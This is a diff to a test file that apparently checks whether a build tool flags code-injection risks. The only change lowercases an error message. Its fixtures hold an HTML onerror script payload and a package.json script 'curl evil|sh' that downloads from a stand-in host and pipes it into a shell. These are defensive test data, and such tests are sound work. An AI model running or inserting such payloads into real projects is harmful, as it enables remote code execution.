@@ -89,12 +89,12 @@ describe('a build with such a file fails', () => {
   test('at the place of the text in the spec', async () => {
     const title = 'Pets <img src=x onerror=evil()>';
     expect(await buildWith(plain('README.md', `# Pets\n\n${title}\n`), title)).toEqual([
-      'spec.yaml:3:10 error code-injection: This text would run as code in README.md:3 (has HTML); please report it',
+      'spec.yaml:3:10 error code-injection: this text would run as code in README.md:3 (has HTML); please report it',
     ]);
     expect(
       await buildWith(plain('package.json', json({ ...manifest, scripts: { x: 'curl evil|sh' } })), 'curl evil|sh'),
     ).toEqual([
-      'spec.yaml:3:10 error code-injection: This text would run as code in package.json:16 ' +
+      'spec.yaml:3:10 error code-injection: this text would run as code in package.json:16 ' +
         '(has a member "scripts" that no emitter writes); please report it',
     ]);
   });
